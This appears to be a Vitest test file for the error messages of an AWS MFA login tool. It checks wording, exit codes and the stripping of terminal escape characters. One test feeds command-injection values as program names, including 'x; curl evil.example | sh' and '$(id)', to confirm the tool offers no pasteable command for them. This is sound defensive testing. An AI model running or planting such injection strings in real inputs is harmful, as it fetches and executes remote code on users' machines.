import { describe, expect, it } from 'vitest';
import { fakeIo } from '../../../test/support/fake-io.ts';
import { type ErrorCode, type ErrorFields, type PathProblem, StepupError } from '../../errors.ts';
import { reportError } from '../report-error.ts';

function told<Code extends ErrorCode>(
  code: Code,
  fields: ErrorFields[Code],
): { readonly exit: number; readonly text: string } {
  const io = fakeIo([]);
  const exit = reportError(new StepupError(code, fields), io);
  expect(io.out()).toBe('');
  return { exit, text: io.err() };
}

const UNREACHABLE = { host: 'sts.amazonaws.com', problem: 'timeout', detail: 'no answer in 30 s', sent: true } as const;

const lastWay = (perhaps: readonly string[]) => ({ type: 'last-way-in', arn: 'ROLE', operator: 'ME', perhaps });

const named = (program: string) =>
  ({ key: 'mfa_process', path: '/c', line: 2, problem: 'not-absolute', program }) as const;

const unsafe = (problem: PathProblem) => ({
  ...{ key: 'mfa_process', program: '/b/get it', path: '/c' },
  fault: { path: '/b/get it', problem },
});

describe('an error is told', () => {
  it('as what happened, why, and what to do next', () => {
    expect(told('secret-wrong', { accessKeyId: 'AKIA1' })).toEqual({
      exit: 5,
      text: "stepup: The secret access key doesn't belong to AKIA1\n  Correct aws_secret_access_key of the profile. A secret that is lost can only be replaced by a new key.\n",
    });
  });

  it.each<[ErrorCode, object, number, readonly string[]]>([
    ['usage', { problem: 'unknown option', hint: 'see --help' }, 2, ['unknown option', 'see --help']],
    ['interrupted', { during: 'the prompt for a code' }, 130, ['the prompt for a code']],
    ['no-terminal', { question: 'a code', command: ['stepup', 'login', 'work'] }, 4, ['Run: stepup login work']],
    ['code-refused', { serialNumber: 'GAHT12345678', aheadSeconds: 2 }, 5, ['used already', 'GAHT12345678']],
    ['code-refused', { serialNumber: 'GAHT12345678', aheadSeconds: 95 }, 5, ['1 min 35 s ahead of']],
    ['clock-wrong', { host: 'sts.amazonaws.com', aheadSeconds: -7200 }, 5, ['2 h behind', 'No code was used up']],
    ['answer-misdated', { aheadSeconds: 86_400 }, 1, ['1 d ahead of the date', 'a proxy']],
    ['endpoint-unreachable', UNREACHABLE, 1, ["Can't reach sts.amazonaws.com", 'wait for the next code']],
    ['endpoint-unreachable', { ...UNREACHABLE, sent: false, proxyVariable: 'HTTPS_PROXY' }, 1, ['HTTPS_PROXY is set']],
    ['endpoint-unreachable', { ...UNREACHABLE, problem: 'tls' }, 1, ['NODE_EXTRA_CA_CERTS']],
    ['setup-refused', { refusals: [lastWay([])] }, 1, ['nobody would get into it any more']],
    ['setup-refused', { refusals: [lastWay(['ROLE/a', 'USER/b'])] }, 1, ['source address: perhaps ROLE/a, USER/b']],
    ['program-named-badly', named('get.sh'), 1, ['`command -v get.sh` shows it']],
    ['program-not-started', { program: '/b/get', detail: 'ENOENT' }, 1, ['what its first line names']],
    ['program-source-unsafe', unsafe('writable-by-others'), 1, ["chmod go-w '/b/get it'"]],
    [
      'aws-refused',
      { operation: 'GetSessionToken', awsCode: 'Throttling', status: 400, message: 'Rate exceeded' },
      5,
      ['try again'],
    ],
    [
      'code-destination',
      {
        url: 'https://sts.corp.example:8443',
        because: 'foreign-host',
        customOrigin: 'AWS_ENDPOINT_URL',
        allowFile: '/h/config.json',
      },
      1,
      ['AWS_ENDPOINT_URL', '/h/config.json', '{"codeHosts": ["sts.corp.example:8443"]}'],
    ],
  ])('%s, %j', (code, fields, exit, words) => {
    const shown = told(code, fields as never);
    expect(shown.exit).toBe(exit);
    for (const word of words) expect(shown.text).toContain(word);
    expect(shown.text).not.toContain('undefined');
  });

  it.each(['x; curl evil.example | sh', '$(id)', '~/bin/get', '$HOME/bin/get', './bin/get', 'AWS_PROFILE=q'])(
    'with no command to paste for a program named as %s',
    (program) => {
      const { text } = told('program-named-badly', named(program));
      expect(text).not.toContain('command -v');
      expect(text).not.toContain('bare name');
      expect(text).toContain('no ~, no variables');
    },
  );

  it.each<[PathProblem, string]>([
    ['owned-by-another', 'a copy that is yours'],
    ['not-a-regular-file', 'Name a regular file'],
    ['symbolic-link', 'by a path that leads to it'],
  ])('with what helps a program that may not run: %s', (problem, words) => {
    const { text } = told('program-source-unsafe', unsafe(problem));
    expect(text).toContain(words);
    expect(text).not.toContain('chmod');
  });

  it('with what helps an AWS file that is a pipe: a copy, for no mode of it does', () => {
    const path = '/dev/fd/63';
    const pipe = { path, problem: 'not-a-regular-file' } as const;
    const refusals = [
      told('unsafe-path', pipe),
      told('program-source-unsafe', { key: 'mfa_process', program: '/b/get', path, fault: pipe }),
    ];
    for (const { text } of refusals) {
      for (const words of [/\bcopy\b/i, /a regular file/, /AWS_CONFIG_FILE/]) expect(text).toMatch(words);
      expect(text).not.toContain('chmod');
    }
    expect(told('unsafe-path', { path, problem: 'not-utf-8' }).text).not.toContain('copy');
  });

  it('with what others wrote made harmless', () => {
    const { text } = told('aws-refused', { operation: 'x', awsCode: 'A\u001b[2J', status: 403, message: 'a\rb\u202e' });
    expect(text).not.toMatch(/[\u001b\r\u202e]/);
  });
});

describe("an error that isn't ours", () => {
  it('of the file system names file and reason', () => {
    const io = fakeIo([]);
    const error = Object.assign(new Error('ENOSPC'), { code: 'ENOSPC', path: '/x', syscall: 'write' });
    expect(reportError(error, io)).toBe(1);
    expect(io.err()).toContain('/x');
    expect(io.err()).toContain('the disk is full');
  });

  it('is a defect, whose stack is shown on demand', () => {
    const io = fakeIo([], { env: { STEPUP_DEBUG: '1' } });
    expect(reportError(new TypeError('x is not a function'), io)).toBe(1);
    expect(io.err()).toContain('x is not a function');
    expect(io.err()).toContain('wording.test.ts');
    const quiet = fakeIo([]);
    reportError('text', quiet);
    expect(quiet.err()).toContain('text');
  });
});
